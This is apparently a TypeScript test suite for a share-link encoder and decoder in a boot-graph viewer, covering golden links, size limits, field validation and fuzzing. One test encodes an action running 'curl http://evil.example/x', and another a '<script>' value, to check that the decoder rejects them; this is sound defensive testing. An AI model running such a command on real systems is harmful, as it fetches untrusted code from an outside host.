/**
 * Share links (issue 6): round trips, golden links that must decode for ever,
 * the size budget, and a fuzz test of the decoder.
 */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { compressToEncodedURIComponent } from 'lz-string';
import { decodeShareFragment, encodeShareState, LINK_HARD_LIMIT } from './codec.ts';
import type { ShareStateV1 } from './share-state.ts';

const goldens = import.meta.glob('../../fixtures/links/*.json', { eager: true, import: 'default' }) as Record<string, { link: string; state: ShareStateV1 }>;

function roundTrip(state: ShareStateV1): ShareStateV1 | undefined {
  const e = encodeShareState(state);
  if (!e.ok) return undefined;
  const d = decodeShareFragment(`#${e.fragment}`);
  return d.ok ? d.state : undefined;
}

const arbScenario = fc.record({
  format: fc.constant('bootgraph/1' as const),
  name: fc.string({ maxLength: 30 }),
  services: fc.array(
    fc.record({
      fmri: fc.stringMatching(/^svc:\/[a-z][a-z0-9]{0,8}(\/[a-z][a-z0-9]{0,8}){0,2}$/),
      start: fc.record({ duration: fc.nat({ max: 10_000 }), exit: fc.constantFrom(0, 1, 95, 96, 97) }),
    }),
    { maxLength: 25 },
  ).map((ss) => ss.filter((s, i) => ss.findIndex((x) => x.fmri === s.fmri) === i)),
});

describe('share link codec', () => {
  it('every golden link decodes to exactly its recorded state', () => {
    const names = Object.keys(goldens);
    expect(names.length).toBeGreaterThanOrEqual(4);
    for (const [name, g] of Object.entries(goldens)) {
      const d = decodeShareFragment(g.link);
      expect(d.ok, name).toBe(true);
      if (d.ok) expect(d.state, name).toEqual(g.state);
    }
  });

  it('round-trips generated states', () => {
    fc.assert(
      fc.property(
        fc.record(
          {
            p: fc.constantFrom('demo-restart-on', 'clearview-first-boot'),
            c: fc.dictionary(fc.stringMatching(/^[a-z.]{1,20}$/), fc.string({ maxLength: 30 }), { maxKeys: 6 }),
            t: fc.nat({ max: 3_600_000 }),
            sel: fc.string({ maxLength: 80 }),
            view: fc.record({ z: fc.double({ min: 0.01, max: 10, noNaN: true }), x: fc.integer(), y: fc.integer() }),
            tour: fc.record({ id: fc.string({ minLength: 1, maxLength: 20 }), step: fc.nat({ max: 40 }) }),
            boot: fc.integer({ min: 1, max: 9 }),
          },
          { requiredKeys: ['p'] },
        ),
        (state) => JSON.stringify(roundTrip(state)) === JSON.stringify(state),
      ),
      { numRuns: 300 },
    );
  });

  it('round-trips whole generated scenarios', () => {
    fc.assert(fc.property(arbScenario, (s) => JSON.stringify(roundTrip({ s, t: 10 })) === JSON.stringify({ s, t: 10 })), { numRuns: 200 });
  });

  it('refuses to make a link above the hard limit and says what to do instead', () => {
    const big = { s: { format: 'bootgraph/1' as const, name: 'x'.repeat(10), services: Array.from({ length: 3000 }, (_, i) => ({ fmri: `svc:/big/s${i}`, common_name: `${Math.sin(i)}${i * 7919}` })) } };
    const e = encodeShareState(big);
    expect(e.ok).toBe(false);
    if (!e.ok) {
      expect(e.length).toBeGreaterThan(LINK_HARD_LIMIT);
      expect(e.message).toContain('Download the scenario file');
    }
  });

  it('refuses malformed or out-of-range timing explorer fields (issue 17)', () => {
    const link = (state: unknown): string => `#v1.${compressToEncodedURIComponent(JSON.stringify(state))}`;
    const bad = [
      { p: 'demo-race-on-a-file', tm: { s: 1.5, j: 0.5 } },
      { p: 'demo-race-on-a-file', tm: { s: 1, j: 1 } },
      { p: 'demo-race-on-a-file', x: { n: 0, j: 0.5, s: 1 } },
      { p: 'demo-race-on-a-file', x: { n: 200, j: 0.5 } },
    ];
    for (const state of bad) {
      const d = decodeShareFragment(link(state));
      expect(d.ok, JSON.stringify(state)).toBe(false);
      if (!d.ok) expect(d.message).toMatch(/timing/);
    }
  });

  it('a negative instant is clamped to 0 with a notice, not refused', () => {
    const d = decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"p": "demo-restart-on", "t": -5000}')}`);
    expect(d.ok).toBe(true);
    if (d.ok) {
      expect(d.state.t).toBe(0);
      expect(d.notices.join(' ')).toMatch(/before the boot began: showing 0 s/);
    }
  });

  it('the view layout: kept when well formed, each damaged field dropped with a notice (never the link)', () => {
    const ok = decodeShareFragment(`#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-restart-on', ui: { v: 'compare', cmp: { c: 'boot.mode', v: 'single' }, f: 'cause', sh: 'none', bt: 'console', bh: 300, o: ['help'] } }))}`);
    expect(ok.ok && ok.state.ui).toEqual({ v: 'compare', cmp: { c: 'boot.mode', v: 'single' }, f: 'cause', sh: 'none', bt: 'console', bh: 300, o: ['help'] });
    expect(ok.ok && ok.notices).toEqual([]);
    const bad = decodeShareFragment(`#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-restart-on', t: 5, ui: { v: '<script>', cmp: 7, f: 'cause', bh: 'tall', o: 'help', zz: 1 } }))}`);
    expect(bad.ok).toBe(true);
    if (bad.ok) {
      expect(bad.state.ui).toEqual({ f: 'cause' });
      expect(bad.state.t).toBe(5);
      expect(bad.notices).toHaveLength(5);
    }
  });

  it("the Hazards panel's state: kept when well formed, dropped with a notice otherwise", () => {
    const link = (hz: unknown): string => `#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-race-on-a-file', ui: { bt: 'hazards', hz } }))}`;
    const ok = decodeShareFragment(link({ g: true, p: 'unordered-use|path:/x|svc:/a:default|svc:/b:default' }));
    expect(ok.ok && ok.state.ui).toEqual({ bt: 'hazards', hz: { g: true, p: 'unordered-use|path:/x|svc:/a:default|svc:/b:default' } });
    for (const hz of [{ g: 1 }, { p: 7 }, { p: 'x'.repeat(1001) }, 'on']) {
      const d = decodeShareFragment(link(hz));
      expect(d.ok && d.state.ui, JSON.stringify(hz)).toEqual({ bt: 'hazards' });
      expect(d.ok && d.notices.join(' ')).toMatch(/hazards panel state is malformed/);
    }
  });

  it('the search text, the legend and Compare\'s row filter: kept when well formed, dropped with a notice otherwise', () => {
    const link = (ui: unknown): string => `#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-race-on-a-file', ui }))}`;
    const ok = decodeShareFragment(link({ q: 'app <b>', lg: 0, cf: 'time' }));
    expect(ok.ok && ok.state.ui).toEqual({ q: 'app <b>', lg: 0, cf: 'time' });
    expect(ok.ok && ok.notices).toEqual([]);
    for (const [ui, what] of [
      [{ q: 'x'.repeat(201) }, 'search text'],
      [{ q: 5 }, 'search text'],
      [{ lg: 2 }, 'legend state'],
      [{ lg: true }, 'legend state'],
      [{ cf: 'Other State!' }, 'Compare filter'],
    ] as const) {
      const d = decodeShareFragment(link({ ...ui, bt: 'console' }));
      expect(d.ok && d.state.ui, JSON.stringify(ui)).toEqual({ bt: 'console' });
      expect(d.ok && d.notices.join(' ')).toContain(`the link's ${what} is malformed`);
    }
  });

  it('the side panel open as a drawer below 1200 px: kept when it is a word, dropped with a notice otherwise', () => {
    const link = (ui: unknown): string => `#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-race-on-a-file', ui }))}`;
    const ok = decodeShareFragment(link({ dr: 'right' }));
    expect(ok.ok && ok.state.ui).toEqual({ dr: 'right' });
    expect(ok.ok && ok.notices).toEqual([]);
    for (const dr of [1, 'Right Panel!', ['right']]) {
      const d = decodeShareFragment(link({ dr, bt: 'console' }));
      expect(d.ok && d.state.ui, JSON.stringify(dr)).toEqual({ bt: 'console' });
      expect(d.ok && d.notices.join(' ')).toContain("the link's side panel is malformed");
    }
  });

  it('a timing-class comparison (issue 17) is kept when its seed and jitter are in range, dropped with a notice otherwise', () => {
    const link = (cmp: unknown): string => `#v1.${compressToEncodedURIComponent(JSON.stringify({ p: 'demo-race-on-a-file', ui: { v: 'compare', cmp } }))}`;
    const ok = decodeShareFragment(link({ s: 7, j: 0.5, l: 'degraded' }));
    expect(ok.ok && ok.state.ui).toEqual({ v: 'compare', cmp: { s: 7, j: 0.5, l: 'degraded' } });
    for (const cmp of [{ s: 1.5, j: 0.5, l: 'a' }, { s: 1, j: 1, l: 'a' }, { s: 1, j: 0.5 }, { s: 1, j: 0.5, l: 'x'.repeat(101) }]) {
      const d = decodeShareFragment(link(cmp));
      expect(d.ok && d.state.ui, JSON.stringify(cmp)).toEqual({ v: 'compare' });
      expect(d.ok && d.notices.join(' ')).toMatch(/comparison is malformed/);
    }
  });

  it('explains each kind of bad link', () => {
    expect(decodeShareFragment('')).toMatchObject({ ok: false, reason: 'empty' });
    expect(decodeShareFragment('#v7.abc')).toMatchObject({ ok: false, reason: 'newer' });
    expect(decodeShareFragment('#pako:eNq')).toMatchObject({ ok: false, reason: 'unknown-format' });
    const good = encodeShareState({ p: 'demo-restart-on', t: 1 });
    if (!good.ok) throw new Error('encode');
    expect(decodeShareFragment(`#${good.fragment.slice(0, good.fragment.length - 6)}`)).toMatchObject({ ok: false });
    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"p": 3}')}`)).toMatchObject({ ok: false, reason: 'invalid' });
    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"s": {"format": "bootgraph/1", "name": "x", "services": [{"fmri": "svc:/a", "dependencies": [{"name": "d", "grouping": "bogus", "restart_on": "none", "targets": ["svc:/b"]}]}]}}')}`)).toMatchObject({ ok: false, reason: 'invalid' });
    expect(decodeShareFragment(`#v1.${compressToEncodedURIComponent('{"p":"x","a":[{"at":1,"run":"curl http://evil.example/x"}]}')}`)).toMatchObject({ ok: false });
  });

  it('fuzz: 100,000 random and mutated inputs never throw', () => {
    const base = encodeShareState({ p: 'demo-restart-on', c: { 'boot.mode': 'single' }, a: [{ at: 5, run: 'svcadm restart svc:/site/db:default' }], t: 77, sel: 'svc:/site/db:default' });
    if (!base.ok) throw new Error('encode');
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$.#%<>"\'{}[]:,\\';
    let seed = 12345;
    const rnd = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed / 0x7fffffff;
    };
    let threw = 0;
    let accepted = 0;
    for (let k = 0; k < 100_000; k++) {
      let s: string;
      if (k % 2 === 0) {
        // mutate a valid link: flip, insert, delete or truncate characters
        const chars = [...base.fragment];
        const edits = 1 + Math.floor(rnd() * 4);
        for (let e = 0; e < edits; e++) {
          const pos = Math.floor(rnd() * chars.length);
          const op = Math.floor(rnd() * 4);
          const c = alphabet[Math.floor(rnd() * alphabet.length)] ?? 'A';
          if (op === 0) chars[pos] = c;
          else if (op === 1) chars.splice(pos, 0, c);
          else if (op === 2) chars.splice(pos, 1);
          else chars.length = Math.max(0, pos);
        }
        s = chars.join('');
      } else {
        const len = Math.floor(rnd() * 120);
        s = (rnd() < 0.7 ? 'v1.' : '') + Array.from({ length: len }, () => alphabet[Math.floor(rnd() * alphabet.length)] ?? '').join('');
      }
      try {
        const d = decodeShareFragment(s);
        if (d.ok) accepted++;
      } catch {
        threw++;
      }
    }
    expect(threw).toBe(0);
    // Some mutations of a valid link still decode to a valid (different) state; most do not.
    expect(accepted).toBeLessThan(100_000);
  });
});
